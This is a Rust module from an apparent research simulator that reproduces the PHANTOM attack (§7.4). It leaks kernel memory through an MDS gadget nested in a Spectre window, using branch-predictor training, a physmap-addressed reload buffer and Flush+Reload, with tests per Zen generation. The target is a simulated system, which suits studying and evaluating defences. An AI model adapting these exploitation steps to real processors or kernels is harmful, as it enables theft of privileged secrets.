//! §7.4 — leaking arbitrary kernel memory with an MDS gadget by nesting
//! PHANTOM inside a conventional Spectre window.
//!
//! A *conventional* Spectre gadget needs two dependent loads. An MDS
//! gadget (Listing 4) has only one: a bounds check followed by
//! `data = array[user_index]` and a call. With P3, the attacker supplies
//! the second, secret-dependent load *elsewhere*: the Spectre window
//! (conditional trained taken, index out of bounds) transiently loads
//! the secret into a register, and an injected prediction at the direct
//! `call parse_data()` phantom-steers the transient control flow to a
//! disclosure gadget that cache-encodes the register into the attacker's
//! reload buffer (addressed through physmap).

use phantom_isa::BranchKind;
use phantom_kernel::{sysno, System};
use phantom_mem::{AccessKind, PageFlags, PrivilegeLevel, VirtAddr};
use phantom_sidechannel::{NoiseModel, Reading};

use crate::attacks::AttackError;
use crate::primitives::PrimitiveConfig;

/// Configuration for the MDS leak.
#[derive(Debug, Clone)]
pub struct MdsLeakConfig {
    /// Number of secret bytes to leak (the paper leaks 4096).
    pub bytes: usize,
    /// In-bounds training calls per leaked byte (keeps the direction
    /// predictor saturated taken).
    pub trainings_per_byte: usize,
    /// Noise seed.
    pub seed: u64,
}

impl Default for MdsLeakConfig {
    fn default() -> MdsLeakConfig {
        MdsLeakConfig {
            bytes: 4096,
            trainings_per_byte: 4,
            seed: 0,
        }
    }
}

/// Result of an MDS-gadget leak run.
#[derive(Debug, Clone)]
pub struct MdsLeakResult {
    /// The leaked bytes (0 where no line lit up).
    pub leaked: Vec<u8>,
    /// Fraction of bytes recovered exactly.
    pub accuracy: f64,
    /// Whether any signal was observed at all (the paper saw total
    /// signal loss in 2 of 10 reboots, attributed to undesired BTB
    /// aliasing).
    pub signal: bool,
    /// Mean confidence of the per-byte hit reloads (bytes with no hit
    /// contribute 0).
    pub mean_confidence: f64,
    /// Simulated cycles consumed.
    pub cycles: u64,
    /// Simulated seconds consumed.
    pub seconds: f64,
    /// Leak rate in bytes per second.
    pub bytes_per_sec: f64,
}

/// Leak the module's planted secret. `physmap_base` comes from the §7.2
/// stage; module addresses are attacker-known (§7.4 assumes the gadget
/// addresses were recovered by the previous steps).
///
/// # Errors
///
/// Returns [`AttackError`] on setup or syscall failure.
pub fn leak_kernel_memory(
    sys: &mut System,
    physmap_base: VirtAddr,
    config: &MdsLeakConfig,
) -> Result<MdsLeakResult, AttackError> {
    let module = *sys.module();
    let attacker = VirtAddr::new(0x5000_0000);
    let cfg = PrimitiveConfig::for_system(sys, attacker);
    let mut noise = NoiseModel::realistic(config.seed);

    // Reload buffer: 256 cache lines of attacker memory, also reachable
    // by the kernel through physmap (Table 5 gave us the physical
    // address).
    let reload_uva = VirtAddr::new(0x5a00_0000);
    sys.map_user(reload_uva, 256 * 64, PageFlags::USER_DATA)?;
    let reload_pa = sys
        .machine()
        .page_table()
        .translate(reload_uva, AccessKind::Read, PrivilegeLevel::User)
        .map_err(|e| AttackError(e.to_string()))?;
    let reload_kva = physmap_base + reload_pa.raw();

    let (threshold, span) = {
        let c = sys.machine().caches().config();
        (
            c.l1_latency + c.l2_latency + noise.jitter_cycles,
            c.memory_latency,
        )
    };

    // Byte index of the secret relative to the array base (the
    // out-of-bounds distance).
    let secret_offset = module.secret - module.array;

    let start_cycles = sys.machine().cycles();
    let mut leaked = Vec::with_capacity(config.bytes);
    let mut hits = 0usize;
    let mut confidence_sum = 0.0;
    for i in 0..config.bytes {
        // ① Train the bounds check taken with in-bounds indices. These
        // calls also retrain the architectural `call parse_data` BTB
        // entry, so the phantom injection must come afterwards.
        for t in 0..config.trainings_per_byte {
            // Indices strictly below *array_length (16), so every
            // training run takes the branch.
            sys.syscall(
                sysno::MODULE_READ_DATA,
                &[(t as u64 * 4) % 16, reload_kva.raw()],
            )?;
        }
        // ② Inject the phantom prediction at the call site, pointing at
        // the disclosure gadget.
        sys.train_user_branch(
            cfg.user_alias(module.parse_call),
            BranchKind::Indirect,
            module.disclosure_gadget,
        )?;
        // ③ Flush the reload buffer.
        for b in 0..256u64 {
            phantom_sidechannel::flush(sys.machine_mut(), reload_uva + (b << 6));
        }
        // ④ The out-of-bounds call: architecturally rejected, but the
        // taken-trained conditional opens a Spectre window in which the
        // secret byte is loaded and the nested phantom encodes it.
        let index = secret_offset + i as u64;
        sys.syscall(sysno::MODULE_READ_DATA, &[index, reload_kva.raw()])?;
        // ⑤ Reload scan.
        let mut byte = None;
        for b in 0..256u64 {
            let latency =
                phantom_sidechannel::reload(sys.machine_mut(), reload_uva + (b << 6), &mut noise);
            let reading = Reading::classify(latency, threshold, span);
            if reading.hit && byte.is_none() {
                byte = Some(b as u8);
                confidence_sum += reading.confidence.value();
            }
        }
        if byte.is_some() {
            hits += 1;
        }
        leaked.push(byte.unwrap_or(0));
    }

    let cycles = sys.machine().cycles() - start_cycles;
    let seconds = sys.machine().profile().cycles_to_seconds(cycles);
    let truth = &sys.secret()[..config.bytes.min(sys.secret().len())];
    let correct = leaked.iter().zip(truth).filter(|(a, b)| a == b).count();
    Ok(MdsLeakResult {
        accuracy: correct as f64 / config.bytes as f64,
        signal: hits > config.bytes / 2,
        mean_confidence: confidence_sum / config.bytes.max(1) as f64,
        leaked,
        cycles,
        seconds,
        bytes_per_sec: config.bytes as f64 / seconds,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use phantom_pipeline::UarchProfile;

    #[test]
    fn leaks_kernel_secret_on_zen2() {
        let mut sys = System::new(UarchProfile::zen2(), 1 << 28, 55).unwrap();
        let physmap = sys.layout().physmap_base();
        let config = MdsLeakConfig {
            bytes: 48,
            ..Default::default()
        };
        let r = leak_kernel_memory(&mut sys, physmap, &config).unwrap();
        assert!(r.signal, "signal observed");
        assert!(r.accuracy >= 0.95, "accuracy {}", r.accuracy);
        assert!(r.mean_confidence > 0.0, "hit reloads carry margin");
        assert_eq!(&r.leaked[..16], &sys.secret()[..16]);
    }

    #[test]
    fn leaks_kernel_secret_on_zen1() {
        let mut sys = System::new(UarchProfile::zen1(), 1 << 28, 56).unwrap();
        let physmap = sys.layout().physmap_base();
        let config = MdsLeakConfig {
            bytes: 32,
            ..Default::default()
        };
        let r = leak_kernel_memory(&mut sys, physmap, &config).unwrap();
        assert!(r.accuracy >= 0.95, "accuracy {}", r.accuracy);
    }

    #[test]
    fn no_leak_on_zen4() {
        // The nested phantom never executes on Zen 4: conventional
        // Spectre alone cannot run the second load.
        let mut sys = System::new(UarchProfile::zen4(), 1 << 28, 57).unwrap();
        let physmap = sys.layout().physmap_base();
        let config = MdsLeakConfig {
            bytes: 16,
            ..Default::default()
        };
        let r = leak_kernel_memory(&mut sys, physmap, &config).unwrap();
        assert!(!r.signal, "no nested-phantom signal on Zen 4");
        assert!(r.accuracy < 0.2);
    }

    #[test]
    fn the_bounds_check_architecturally_blocks_the_read() {
        // Sanity: the leak is purely transient — the architectural
        // result register never contains the secret.
        let mut sys = System::new(UarchProfile::zen2(), 1 << 28, 58).unwrap();
        let physmap = sys.layout().physmap_base();
        let config = MdsLeakConfig {
            bytes: 8,
            ..Default::default()
        };
        leak_kernel_memory(&mut sys, physmap, &config).unwrap();
        let r3 = sys.machine().reg(phantom_isa::Reg::R3);
        let secret_head = u64::from_le_bytes(sys.secret()[..8].try_into().expect("8 bytes"));
        assert_ne!(r3, secret_head, "secret never architecturally loaded");
    }
}
